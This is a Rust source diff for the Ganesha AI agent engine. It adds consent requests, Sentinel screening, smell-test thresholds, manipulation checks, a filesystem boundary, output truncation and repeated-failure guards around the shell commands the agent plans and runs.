@@ -3,15 +3,31 @@
 pub mod access_control;
 pub mod config;
 pub mod auth;
+pub mod boundary;
+pub mod interactive;
+pub mod json_extract;
+pub mod shell_split;
+pub mod transcript;
 
 pub use access_control::RiskLevel;
 
 use crate::logging::SystemLogger;
-use crate::providers::{LlmProvider, ChatMessage};
-use access_control::{AccessController, AccessPolicy};
+use crate::sentinel::{self, QuarantineStatus, Sentinel, SentinelAnalysis, Verdict};
+use crate::smell::{SmellReport, Trunk};
+use crate::providers::{fit_to_window, LlmProvider, ChatMessage};
+use access_control::{AccessController, AccessPolicy, ManipulationHit};
+use interactive::{InteractiveGuard, Prepared};
+use shell_split::{split_chain, ChainOp};
+use transcript::Transcript;
+use async_trait::async_trait;
 use chrono::{DateTime, Utc};
 use serde::{Deserialize, Serialize};
+use std::collections::{HashMap, VecDeque};
+#[cfg(unix)]
+use std::os::fd::AsRawFd;
 use std::path::PathBuf;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
 use thiserror::Error;
 use uuid::Uuid;
 
@@ -32,6 +48,9 @@ pub enum GaneshaError {
     #[error("Timeout after {0} seconds")]
     Timeout(u64),
 
+    #[error("Plan failed the smell test (score {score} < {threshold}): {reason}")]
+    SmellTestFailed { score: u8, threshold: u8, reason: String },
+
     #[error("IO error: {0}")]
     IoError(#[from] std::io::Error),
 }
@@ -117,6 +136,62 @@ pub struct ExecutionResult {
     pub duration_ms: u64,
 }
 
+/// A follow-up command refused by access control, reported back to the model
+/// so it can propose an alternative that fits the policy
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct CapabilityDenied {
+    pub command: String,
+    pub reason: String,
+}
+
+impl CapabilityDenied {
+    /// Message fed back to the model after a denial
+    pub fn feedback_message(&self) -> String {
+        format!(
+            "CAPABILITY DENIED: the command `{}` is not permitted: {}. \
+            Do not retry it or a variant of it. Propose a safe alternative that stays within \
+            the access policy, or respond explaining what the user must do themselves.",
+            self.command, self.reason
+        )
+    }
+
+    /// Final answer when the model keeps proposing denied commands
+    pub fn give_up_message(&self) -> String {
+        format!(
+            "I couldn't find a permitted way to continue. The command `{}` is not allowed: {}",
+            self.command, self.reason
+        )
+    }
+}
+
+/// A command the model keeps proposing even though it has already failed
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RepeatedFailure {
+    pub command: String,
+    pub failures: usize,
+}
+
+impl RepeatedFailure {
+    /// Message fed back to the model when it proposes the failing command again
+    pub fn feedback_message(&self) -> String {
+        format!(
+            "REPEATED FAILURE: the command `{}` has already failed {} times in this task. \
+            Running it again will fail the same way. Propose a different approach, \
+            or respond explaining why the task cannot be completed.",
+            self.command, self.failures
+        )
+    }
+
+    /// Final answer when the model will not move off the failing command
+    pub fn stuck_message(&self) -> String {
+        format!(
+            "Stopping: stuck repeating `{}`, which failed {} times. \
+            Try rephrasing the request or fixing the underlying error first.",
+            self.command, self.failures
+        )
+    }
+}
+
 /// Session state
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
@@ -160,18 +235,273 @@ impl Session {
 pub trait ConsentHandler: Send + Sync {
     fn request_consent(&self, action: &Action) -> bool;
     fn request_batch_consent(&self, plan: &ExecutionPlan) -> ConsentResult;
+
+    /// Confirm a task flagged as manipulation. Only asked when the policy
+    /// allows it (`manipulation_consent`); refuses unless overridden.
+    fn confirm_manipulation(&self, _task: &str, _hit: &ManipulationHit) -> bool {
+        false
+    }
 }
 
 #[derive(Debug, Clone)]
 pub enum ConsentResult {
     ApproveAll,
+    /// Ask about each action before it runs (`AsyncConsentHandler::request_consent`)
     ApproveSingle,
     Deny,
     Cancel,
 }
 
+/// What a consent frontend is shown for one action. Risk level and reverse
+/// command are on the action.
+#[derive(Debug, Clone, Serialize)]
+pub struct ConsentRequest {
+    pub action: Action,
+    /// Smell test of the command
+    pub smell: SmellReport,
+    /// The Sentinel's view of the command, when one is installed. Taken with
+    /// `Sentinel::preview`, so asking doesn't count as running it.
+    pub sentinel: Option<SentinelAnalysis>,
+}
+
+/// A plan awaiting approval, with a request for each command in it
+#[derive(Debug, Clone, Serialize)]
+pub struct BatchConsentRequest {
+    pub plan: ExecutionPlan,
+    pub actions: Vec<ConsentRequest>,
+}
+
+/// Consent frontend the engine awaits, so a GUI or voice frontend can wait
+/// for the user without blocking its event loop. Every `ConsentHandler` is
+/// one: the terminal handlers keep prompting synchronously.
+#[async_trait]
+pub trait AsyncConsentHandler: Send + Sync {
+    async fn request_consent(&self, request: &ConsentRequest) -> bool;
+    async fn request_batch_consent(&self, request: &BatchConsentRequest) -> ConsentResult;
+
+    /// Confirm a task flagged as manipulation. Only asked when the policy
+    /// allows it (`manipulation_consent`); refuses unless overridden.
+    async fn confirm_manipulation(&self, _task: &str, _hit: &ManipulationHit) -> bool {
+        false
+    }
+}
+
+#[async_trait]
+impl<T: ConsentHandler> AsyncConsentHandler for T {
+    async fn request_consent(&self, request: &ConsentRequest) -> bool {
+        ConsentHandler::request_consent(self, &request.action)
+    }
+
+    async fn request_batch_consent(&self, request: &BatchConsentRequest) -> ConsentResult {
+        ConsentHandler::request_batch_consent(self, &request.plan)
+    }
+
+    async fn confirm_manipulation(&self, task: &str, hit: &ManipulationHit) -> bool {
+        ConsentHandler::confirm_manipulation(self, task, hit)
+    }
+}
+
+/// Default cap on mid-plan re-plans in adaptive execution mode
+pub const DEFAULT_MAX_REPLANS: usize = 2;
+
+/// Default cap on execute/analyze rounds per task in the interactive
+/// agentic loop
+pub const DEFAULT_MAX_ITERATIONS: usize = 10;
+
+/// Default cap on plan/execute rounds for a task given on the command line
+pub const DEFAULT_MAX_TASK_ITERATIONS: usize = 5;
+
+/// Default lines of stdout (and of stderr) kept from each command
+pub const DEFAULT_MAX_OUTPUT_LINES: usize = 500;
+
+/// Default bytes of stdout (and of stderr) kept from each command
+pub const DEFAULT_MAX_OUTPUT_BYTES: usize = 64 * 1024;
+
+/// A line of command output, passed to `GaneshaEngine::on_output` as it
+/// arrives
+#[derive(Debug, Clone, Copy)]
+pub struct OutputLine<'a> {
+    /// The command producing the line
+    pub command: &'a str,
+    /// The line, without its newline
+    pub text: &'a str,
+    /// Whether the line came from stderr
+    pub stderr: bool,
+}
+
+/// Receives command output line by line while commands run
+pub type OutputSink = Arc<dyn Fn(&OutputLine<'_>) + Send + Sync>;
+
+/// How many times the model may propose a denied follow-up before we stop asking
+pub const MAX_DENIAL_RETRIES: usize = 2;
+
+/// Failures of the same command within a task before it is no longer retried
+pub const MAX_COMMAND_FAILURES: usize = 2;
+
+/// Tokens of context window left free for the planning response
+pub const PLANNING_COMPLETION_RESERVE: usize = 4096;
+
+/// Keeps the start of a stream, up to `max_lines` lines and `max_bytes`
+/// bytes, and counts what was left out
+struct OutputCapture {
+    text: String,
+    max_lines: usize,
+    max_bytes: usize,
+    kept_lines: usize,
+    omitted_lines: usize,
+    omitted_bytes: usize,
+}
+
+impl OutputCapture {
+    fn new(max_lines: usize, max_bytes: usize) -> Self {
+        Self { text: String::new(), max_lines, max_bytes, kept_lines: 0, omitted_lines: 0, omitted_bytes: 0 }
+    }
+
+    /// Add a line, `dropped` bytes of which were already cut by the reader
+    fn push(&mut self, line: &str, dropped: usize) {
+        let room = self.max_bytes.saturating_sub(self.text.len() + 1);
+        if self.omitted_lines > 0 || self.kept_lines >= self.max_lines || room == 0 {
+            self.omitted_lines += 1;
+            return;
+        }
+        let mut keep = line.len().min(room);
+        while !line.is_char_boundary(keep) {
+            keep -= 1;
+        }
+        self.text.push_str(&line[..keep]);
+        self.text.push('\n');
+        self.kept_lines += 1;
+        self.omitted_bytes += dropped + line.len() - keep;
+    }
+
+    fn finish(mut self) -> String {
+        let mut omitted = Vec::new();
+        if self.omitted_lines > 0 {
+            omitted.push(format!("{} more lines", self.omitted_lines));
+        }
+        if self.omitted_bytes > 0 {
+            omitted.push(format!("{} more bytes", self.omitted_bytes));
+        }
+        if !omitted.is_empty() {
+            self.text.push_str(&format!("... (truncated, {})\n", omitted.join(", ")));
+        }
+        self.text
+    }
+}
+
+/// Splits a stream into lines of at most `max_bytes`; the rest of a longer
+/// line is read and dropped, so output without newlines can't grow a line
+/// without bound. The partial line lives here rather than in the read
+/// future, so a read cancelled by `select!` loses nothing.
+struct LineReader<R> {
+    reader: R,
+    max_bytes: usize,
+    line: Vec<u8>,
+    dropped: usize,
+}
+
+impl<R: tokio::io::AsyncBufRead + Unpin> LineReader<R> {
+    fn new(reader: R, max_bytes: usize) -> Self {
+        Self { reader, max_bytes, line: Vec::new(), dropped: 0 }
+    }
+
+    /// The next line without its newline, and how many of its bytes were
+    /// dropped, or `None` at the end of the stream
+    async fn next_line(&mut self) -> std::io::Result<Option<(Vec<u8>, usize)>> {
+        use tokio::io::AsyncBufReadExt;
+
+        loop {
+            let buf = self.reader.fill_buf().await?;
+            if buf.is_empty() {
+                if self.line.is_empty() && self.dropped == 0 {
+                    return Ok(None);
+                }
+                return Ok(Some((std::mem::take(&mut self.line), std::mem::take(&mut self.dropped))));
+            }
+            let newline = buf.iter().position(|&b| b == b'\n');
+            let content = &buf[..newline.unwrap_or(buf.len())];
+            let keep = content.len().min(self.max_bytes - self.line.len());
+            self.line.extend_from_slice(&content[..keep]);
+            self.dropped += content.len() - keep;
+            let used = newline.map_or(buf.len(), |i| i + 1);
+            self.reader.consume(used);
+            if newline.is_some() {
+                return Ok(Some((std::mem::take(&mut self.line), std::mem::take(&mut self.dropped))));
+            }
+        }
+    }
+}
+
+/// Our controlling terminal while a command holds its foreground. Dropping
+/// it takes the foreground back.
+#[cfg(unix)]
+struct TerminalForeground {
+    tty: std::fs::File,
+}
+
+#[cfg(unix)]
+impl TerminalForeground {
+    /// Open the controlling terminal if this process is in its foreground
+    /// group, i.e. has the terminal to give away
+    fn acquire() -> Option<Self> {
+        let tty = std::fs::OpenOptions::new().read(true).write(true).open("/dev/tty").ok()?;
+        // SAFETY: plain queries on a descriptor we own
+        let ours = unsafe { libc::tcgetpgrp(tty.as_raw_fd()) == libc::getpgrp() };
+        ours.then_some(Self { tty })
+    }
+
+    fn fd(&self) -> std::os::fd::RawFd {
+        self.tty.as_raw_fd()
+    }
+}
+
+#[cfg(unix)]
+impl Drop for TerminalForeground {
+    fn drop(&mut self) {
+        let tty = self.fd();
+        // SAFETY: tcsetpgrp on a descriptor we own
+        with_sigttou_blocked(|| unsafe { libc::tcsetpgrp(tty, libc::getpgrp()) });
+    }
+}
+
+/// Run `f` with SIGTTOU blocked on this thread. A process outside the
+/// terminal's foreground group must block it to call tcsetpgrp.
+#[cfg(unix)]
+fn with_sigttou_blocked<T>(f: impl FnOnce() -> T) -> T {
+    // SAFETY: sigset and sigmask calls on local, initialized sets
+    unsafe {
+        let mut block: libc::sigset_t = std::mem::zeroed();
+        let mut previous: libc::sigset_t = std::mem::zeroed();
+        libc::sigemptyset(&mut block);
+        libc::sigaddset(&mut block, libc::SIGTTOU);
+        libc::pthread_sigmask(libc::SIG_BLOCK, &block, &mut previous);
+        let result = f();
+        libc::pthread_sigmask(libc::SIG_SETMASK, &previous, std::ptr::null_mut());
+        result
+    }
+}
+
+/// A finished command's exit status and captured output
+struct CapturedOutput {
+    status: std::process::ExitStatus,
+    stdout: String,
+    stderr: String,
+}
+
+/// Next line from an output stream, or `None` once it closes. A stream that
+/// is already closed never yields, so `select!` waits on the other one.
+async fn next_line<R>(lines: &mut Option<LineReader<R>>) -> Option<(Vec<u8>, usize)>
+where
+    R: tokio::io::AsyncBufRead + Unpin,
+{
+    match lines {
+        Some(lines) => lines.next_line().await.ok().flatten(),
+        None => std::future::pending().await,
+    }
+}
+
 /// The Ganesha Engine
-pub struct GaneshaEngine<L: LlmProvider, C: ConsentHandler> {
+pub struct GaneshaEngine<L: LlmProvider, C: AsyncConsentHandler> {
     pub llm: L,
     pub consent: C,
     pub access: AccessController,
@@ -183,9 +513,56 @@ pub struct GaneshaEngine<L: LlmProvider, C: ConsentHandler> {
     pub conversation_history: Vec<ChatMessage>,
     /// Current working directory
     pub working_directory: PathBuf,
+    /// Re-check the remaining actions after each step and re-plan when the
+    /// output shows they no longer apply (e.g. the package manager is dnf, not apt)
+    pub adaptive_execution: bool,
+    /// Maximum mid-plan re-plans per execution when adaptive execution is on
+    pub max_replans: usize,
+    /// Mark the planning prompt as a prompt-cache breakpoint so providers that
+    /// support caching (Anthropic) don't re-bill it on every turn
+    pub prompt_caching: bool,
+    /// Security guardian that screens every command before it runs. Halted
+    /// actions are blocked; quarantined ones are parked in its queue until
+    /// released.
+    pub sentinel: Option<Arc<Sentinel>>,
+    /// Refuse plans whose commands score below this on the smell test (0-100)
+    pub smell_threshold: Option<u8>,
+    /// Maximum execute/analyze rounds per task in the agentic loop. `None`
+    /// keeps each loop's own default (`DEFAULT_MAX_ITERATIONS` interactively,
+    /// `DEFAULT_MAX_TASK_ITERATIONS` for a command-line task).
+    pub max_iterations: Option<usize>,
+    /// Lines of stdout and of stderr kept per command; the rest is counted in
+    /// a "(truncated, N more lines)" marker
+    pub max_output_lines: usize,
+    /// Bytes of stdout and of stderr kept per command, which also caps any
+    /// single line; cut bytes are counted in the truncation marker
+    pub max_output_bytes: usize,
+    /// Called with each line of command output as it arrives, e.g. to show
+    /// long-running commands live
+    pub on_output: Option<OutputSink>,
+    /// Rewrites commands that would wait for input (e.g. `apt install`
+    /// without `-y`) or refuses them before they run
+    pub interactive_guard: InteractiveGuard,
+    /// Project root that tasks may not `cd` out of or write outside of.
+    /// `None` leaves the filesystem unrestricted.
+    pub root_boundary: Option<PathBuf>,
+    /// Run `a && b; c` shell actions one step at a time, with a result per
+    /// step (see `shell_split`)
+    pub split_chains: bool,
+    /// Inputs, plans and results of this run, for `export_transcript`
+    pub transcript: Transcript,
+    /// Commands of the last plan run in the current task (see `repeats_last_plan`)
+    last_plan_commands: Option<Vec<String>>,
+    /// Failure count per command in the current task (see `start_task`)
+    failed_commands: HashMap<String, usize>,
+    /// Actions parked in the Sentinel's quarantine, by queue ID, so that
+    /// `run_released` can run them once a human lets them through
+    held_actions: HashMap<String, Action>,
+    /// Last step number handed out; action IDs are `step-{n}` within a task
+    step_counter: AtomicUsize,
 }
 
-impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
+impl<L: LlmProvider, C: AsyncConsentHandler> GaneshaEngine<L, C> {
     pub fn new(llm: L, consent: C, policy: AccessPolicy) -> Self {
         use directories::ProjectDirs;
 
@@ -199,6 +576,11 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
         let working_directory = std::env::current_dir()
             .unwrap_or_else(|_| PathBuf::from("."));
 
+        let interactive_guard = InteractiveGuard::from_config(&policy.interactive).unwrap_or_else(|e| {
+            eprintln!("⚠ {}; using the built-in interactive rules", e);
+            InteractiveGuard::default()
+        });
+
         Self {
             llm,
             consent,
@@ -209,7 +591,100 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
             current_session: None,
             conversation_history: Vec::new(),
             working_directory,
+            adaptive_execution: false,
+            max_replans: DEFAULT_MAX_REPLANS,
+            prompt_caching: false,
+            sentinel: None,
+            smell_threshold: None,
+            max_iterations: None,
+            max_output_lines: DEFAULT_MAX_OUTPUT_LINES,
+            max_output_bytes: DEFAULT_MAX_OUTPUT_BYTES,
+            on_output: None,
+            interactive_guard,
+            root_boundary: None,
+            split_chains: false,
+            transcript: Transcript::default(),
+            last_plan_commands: None,
+            failed_commands: HashMap::new(),
+            held_actions: HashMap::new(),
+            step_counter: AtomicUsize::new(0),
+        }
+    }
+
+    /// Begin a new user task: forget which commands failed in the previous one,
+    /// restart step numbering and open a transcript turn for `input`
+    pub fn start_task(&mut self, input: &str) {
+        self.transcript.begin_turn(input);
+        self.failed_commands.clear();
+        self.last_plan_commands = None;
+        self.step_counter.store(0, Ordering::Relaxed);
+    }
+
+    /// Record the commands of a plan about to run. Returns true if they are
+    /// the same as the previous plan's in this task, i.e. the agentic loop is
+    /// going round in circles.
+    pub fn repeats_last_plan(&mut self, plan: &ExecutionPlan) -> bool {
+        let commands: Vec<String> = plan
+            .actions
+            .iter()
+            .filter(|a| !a.command.is_empty())
+            .map(|a| Self::command_key(&a.command))
+            .collect();
+        let repeated = self.last_plan_commands.as_ref() == Some(&commands);
+        self.last_plan_commands = Some(commands);
+        repeated
+    }
+
+    /// Next sequential action ID (`step-1`, `step-2`, ...). IDs stay unique
+    /// across re-plans within a task and are the same from run to run.
+    fn next_action_id(&self) -> String {
+        format!("step-{}", self.step_counter.fetch_add(1, Ordering::Relaxed) + 1)
+    }
+
+    /// Whitespace-insensitive key for tracking repeated commands
+    fn command_key(command: &str) -> String {
+        command.split_whitespace().collect::<Vec<_>>().join(" ")
+    }
+
+    /// Count a failed command towards the repeated-failure guard
+    fn record_outcome(&mut self, result: &ExecutionResult) {
+        if !result.success && !result.command.is_empty() {
+            *self.failed_commands.entry(Self::command_key(&result.command)).or_insert(0) += 1;
+        }
+    }
+
+    /// First action in `plan` whose command already failed too often in this task
+    fn first_repeated_failure(&self, plan: &ExecutionPlan) -> Option<RepeatedFailure> {
+        plan.actions.iter().find_map(|action| {
+            let failures = *self.failed_commands.get(&Self::command_key(&action.command))?;
+            (failures >= MAX_COMMAND_FAILURES).then(|| RepeatedFailure {
+                command: action.command.clone(),
+                failures,
+            })
+        })
+    }
+
+    /// Stream a response, handing each chunk to `on_token`, and return the full
+    /// text. Plans are JSON, so nothing is parsed until the whole buffer is in.
+    async fn generate_buffered<F>(&self, messages: &[ChatMessage], on_token: &mut F) -> Result<String, GaneshaError>
+    where
+        F: FnMut(&str) + Send,
+    {
+        use futures::StreamExt;
+
+        let mut stream = self
+            .llm
+            .generate_stream_with_history(messages)
+            .await
+            .map_err(|e| GaneshaError::LlmError(e.to_string()))?;
+
+        let mut response = String::new();
+        while let Some(token) = stream.next().await {
+            let token = token.map_err(|e| GaneshaError::LlmError(e.to_string()))?;
+            on_token(&token);
+            response.push_str(&token);
         }
+        Ok(response)
     }
 
     /// Clear conversation history (for new session)
@@ -239,13 +714,26 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
 
     /// Plan execution for a task
     pub async fn plan(&mut self, task: &str) -> Result<ExecutionPlan, GaneshaError> {
+        self.plan_streaming(task, |_| {}).await
+    }
+
+    /// Plan execution for a task, passing response tokens to `on_token` as the
+    /// model produces them so the caller can show progress
+    pub async fn plan_streaming<F>(&mut self, task: &str, mut on_token: F) -> Result<ExecutionPlan, GaneshaError>
+    where
+        F: FnMut(&str) + Send,
+    {
         // Check for manipulation
-        if let Some(indicator) = self.access.check_manipulation(task) {
-            self.logger.manipulation_detected("user", task, &indicator);
-            return Err(GaneshaError::AccessDenied(format!(
-                "Manipulation detected: {}",
-                indicator
-            )));
+        if let Some(hit) = self.access.detect_manipulation(task) {
+            self.logger.manipulation_detected("user", task, &hit.to_string());
+            let confirmed = self.access.manipulation_needs_consent()
+                && self.consent.confirm_manipulation(task, &hit).await;
+            if !confirmed {
+                return Err(GaneshaError::AccessDenied(format!(
+                    "Manipulation detected: {}",
+                    hit
+                )));
+            }
         }
 
         let mut session = Session::new(task);
@@ -270,7 +758,11 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
             }
 
         // Build message list: system + history + current user message
-        let mut messages = vec![ChatMessage::system(&system_prompt)];
+        let mut system_message = ChatMessage::system(&system_prompt);
+        if self.prompt_caching {
+            system_message = system_message.cacheable();
+        }
+        let mut messages = vec![system_message];
 
         // Add conversation history (keeps context between turns)
         for msg in &self.conversation_history {
@@ -280,12 +772,24 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
         // Add current user message
         messages.push(ChatMessage::user(task));
 
+        // Drop the oldest turns that no longer fit the model's context window.
+        // The system prompt and the task are always kept, so what is left
+        // between them becomes the history carried forward.
+        let (mut messages, dropped) = fit_to_window(
+            &messages,
+            self.llm.context_window(),
+            PLANNING_COMPLETION_RESERVE,
+        );
+        if !dropped.is_empty() {
+            self.conversation_history = messages[1..messages.len() - 1].to_vec();
+            messages.insert(1, ChatMessage::system(&format!(
+                "[{} earlier message(s) omitted to fit the context window]",
+                dropped.len()
+            )));
+        }
+
         // Generate with full conversation context
-        let response = self
-            .llm
-            .generate_with_history(&messages)
-            .await
-            .map_err(|e| GaneshaError::LlmError(e.to_string()))?;
+        let response = self.generate_buffered(&messages, &mut on_token).await?;
 
         // Debug: show raw LLM response
         if std::env::var("GANESHA_DEBUG").is_ok() {
@@ -302,11 +806,6 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
         let history_response = Self::summarize_response_for_history(&response, &plan.actions);
         self.conversation_history.push(ChatMessage::assistant(&history_response));
 
-        // Trim history if it gets too long (keep last 20 turns = 40 messages)
-        if self.conversation_history.len() > 40 {
-            self.conversation_history.drain(0..2);
-        }
-
         // Post-processing: Override shell commands for website tasks with MCP browser actions
         // This handles the case where LLM uses container.exec/python/curl instead of MCP tools
         // Also handles the case where LLM just outputs a URL as a Response
@@ -324,7 +823,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                 // Replace the plan with MCP browser actions
                 plan.actions = vec![
                     Action {
-                        id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                        id: self.next_action_id(),
                         action_type: ActionType::McpTool,
                         command: format!("playwright:browser_navigate|{{\"url\":\"{}\"}}", url),
                         explanation: format!("Navigate to {}", url),
@@ -334,7 +833,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                         question: None,
                     },
                     Action {
-                        id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                        id: self.next_action_id(),
                         action_type: ActionType::McpTool,
                         command: "playwright:browser_snapshot|{}".to_string(),
                         explanation: "Get page content".to_string(),
@@ -392,7 +891,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                     plan.actions = if is_display_issue {
                         vec![
                             Action {
-                                id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Shell,
                                 command: format!("{} 'grep -i \"EE\\|error\\|denied\" /var/log/Xorg.0.log 2>/dev/null | head -20 || journalctl -b | grep -i \"EE\\|fb0\\|denied\" | head -20'", ssh_prefix),
                                 explanation: "Check X11 logs for errors".to_string(),
@@ -402,7 +901,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                                 question: None,
                             },
                             Action {
-                                id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Shell,
                                 command: format!("{} 'groups'", ssh_prefix),
                                 explanation: "Check user groups".to_string(),
@@ -412,7 +911,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                                 question: None,
                             },
                             Action {
-                                id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Shell,
                                 command: format!("{} 'sudo usermod -aG video $USER'", ssh_prefix),
                                 explanation: "Add user to video group (common fix for display issues)".to_string(),
@@ -426,7 +925,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                         // Generic SSH diagnostic
                         vec![
                             Action {
-                                id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Shell,
                                 command: format!("{} 'uname -a && uptime'", ssh_prefix),
                                 explanation: "Check system status".to_string(),
@@ -436,7 +935,7 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                                 question: None,
                             },
                             Action {
-                                id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Shell,
                                 command: format!("{} 'journalctl -p err -n 20'", ssh_prefix),
                                 explanation: "Check recent errors".to_string(),
@@ -459,6 +958,13 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                 continue;
             }
 
+            // The boundary holds in every mode
+            if let Some(check) = self.check_boundary(&action.command) {
+                self.logger
+                    .command_denied("user", &action.command, &check.reason);
+                return Err(GaneshaError::AccessDenied(check.reason));
+            }
+
             // In auto mode (-A), allow most commands but still block truly dangerous ones
             if self.auto_approve {
                 // Only block critical dangers in auto mode
@@ -492,21 +998,46 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
 
     /// Execute a plan
     pub async fn execute(&mut self, plan: &ExecutionPlan) -> Result<Vec<ExecutionResult>, GaneshaError> {
+        use crate::cli::print_info;
+
         let mut results = vec![];
 
         // Check if this is a response-only plan (no commands to execute)
         let has_commands = plan.actions.iter().any(|a| !matches!(a.action_type, ActionType::Response));
 
+        if let Some(threshold) = self.smell_threshold.filter(|_| has_commands) {
+            let commands: Vec<&str> = plan
+                .actions
+                .iter()
+                .filter(|a| !matches!(a.action_type, ActionType::Response))
+                .map(|a| a.command.as_str())
+                .collect();
+            let report = Trunk::new().analyze(&commands.join("\n"));
+            if !report.meets(threshold) {
+                if let Some(ref mut session) = self.current_session {
+                    session.state = SessionState::Failed;
+                }
+                return Err(GaneshaError::SmellTestFailed {
+                    score: report.score,
+                    threshold,
+                    reason: report.worst_rationale().unwrap_or_default().to_string(),
+                });
+            }
+        }
+
         // Get consent only if there are actual commands to run
+        let mut review_each = false;
         if !self.auto_approve && has_commands {
-            match self.consent.request_batch_consent(plan) {
+            let request = self.batch_consent_request(plan);
+            match self.consent.request_batch_consent(&request).await {
                 ConsentResult::Cancel | ConsentResult::Deny => {
                     if let Some(ref mut session) = self.current_session {
                         session.state = SessionState::Failed;
                     }
                     return Err(GaneshaError::UserCancelled);
                 }
-                _ => {}
+                ConsentResult::ApproveSingle => review_each = true,
+                ConsentResult::ApproveAll => review_each = false,
             }
         }
 
@@ -514,265 +1045,521 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
             session.state = SessionState::Executing;
         }
 
-        // Execute each action
-        for action in &plan.actions {
-            let start = std::time::Instant::now();
+        // Execute each action. In adaptive mode the remaining actions may be
+        // swapped out mid-plan when an earlier result shows they no longer fit.
+        let mut pending: VecDeque<Action> = plan.actions.iter().cloned().collect();
+        let mut replans = 0;
+        let mut step = 0;
+
+        while let Some(action) = pending.pop_front() {
+            step += 1;
+            if review_each && !matches!(action.action_type, ActionType::Response) {
+                let request = self.consent_request(&action, &Trunk::new());
+                if !self.consent.request_consent(&request).await {
+                    results.push(ExecutionResult {
+                        action_id: action.id.clone(),
+                        command: action.command.clone(),
+                        explanation: action.explanation.clone(),
+                        success: false,
+                        output: String::new(),
+                        error: Some("Declined by user".into()),
+                        duration_ms: 0,
+                    });
+                    continue;
+                }
+            }
 
-            // Handle Response actions - just return the text, no execution
-            if matches!(action.action_type, ActionType::Response) {
-                results.push(ExecutionResult {
-                    action_id: action.id.clone(),
-                    command: String::new(),
-                    explanation: action.explanation.clone(),
-                    success: true,
-                    output: action.explanation.clone(),
-                    error: None,
-                    duration_ms: start.elapsed().as_millis() as u64,
-                });
+            // Held actions are not failures of the command itself
+            match self.screen_action(&action) {
+                Some(held) => results.push(held),
+                None => results.extend(self.run_action(&action).await),
+            }
+
+            if !self.adaptive_execution
+                || pending.is_empty()
+                || replans >= self.max_replans
+                || matches!(action.action_type, ActionType::Response)
+            {
                 continue;
             }
 
-            // Handle MCP tool actions
-            if matches!(action.action_type, ActionType::McpTool) {
-                use crate::orchestrator::mcp::call_mcp_tool;
+            if let Some(revised) = self.revise_remaining_actions(&plan.task, &results, &pending).await {
+                replans += 1;
+                print_info(&format!(
+                    "Step {} changed the picture - discarding {} planned action(s) and re-planning",
+                    step,
+                    pending.len()
+                ));
 
-                // Parse command format: "server:tool|{json_args}"
-                let (tool_part, args_json) = action.command.split_once('|')
-                    .unwrap_or((&action.command, "{}"));
+                if !self.auto_approve {
+                    let request = self.batch_consent_request(&revised);
+                    match self.consent.request_batch_consent(&request).await {
+                        ConsentResult::Cancel | ConsentResult::Deny => break,
+                        ConsentResult::ApproveSingle => review_each = true,
+                        ConsentResult::ApproveAll => review_each = false,
+                    }
+                }
+                pending = revised.actions.into_iter().collect();
+            }
+        }
 
-                let (server, tool) = match tool_part.split_once(':') {
-                    Some((s, t)) => (s, t),
-                    None => {
-                        results.push(ExecutionResult {
-                            action_id: action.id.clone(),
-                            command: action.command.clone(),
-                            explanation: action.explanation.clone(),
-                            success: false,
-                            output: String::new(),
-                            error: Some("Invalid MCP tool format".into()),
-                            duration_ms: start.elapsed().as_millis() as u64,
-                        });
-                        continue;
+        if let Some(ref mut session) = self.current_session {
+            session.results = results.clone();
+            session.state = if results.iter().all(|r| r.success) {
+                SessionState::Completed
+            } else {
+                SessionState::Failed
+            };
+            session.completed_at = Some(Utc::now());
+        }
+
+        // Save session (separate borrow scope)
+        if let Some(ref session) = self.current_session {
+            self.save_session(session)?;
+            self.transcript.record(session.clone());
+        }
+
+        Ok(results)
+    }
+
+    /// Consent request for a plan: the plan plus context for each command
+    fn batch_consent_request(&self, plan: &ExecutionPlan) -> BatchConsentRequest {
+        let trunk = Trunk::new();
+        BatchConsentRequest {
+            plan: plan.clone(),
+            actions: plan
+                .actions
+                .iter()
+                .filter(|a| !matches!(a.action_type, ActionType::Response))
+                .map(|a| self.consent_request(a, &trunk))
+                .collect(),
+        }
+    }
+
+    /// Consent request for one action, with its smell test and Sentinel preview
+    fn consent_request(&self, action: &Action, trunk: &Trunk) -> ConsentRequest {
+        let sentinel = self
+            .sentinel
+            .as_ref()
+            .zip(self.sentinel_context(action))
+            .map(|(sentinel, context)| sentinel.preview(&context));
+        ConsentRequest {
+            action: action.clone(),
+            smell: trunk.analyze(&action.command),
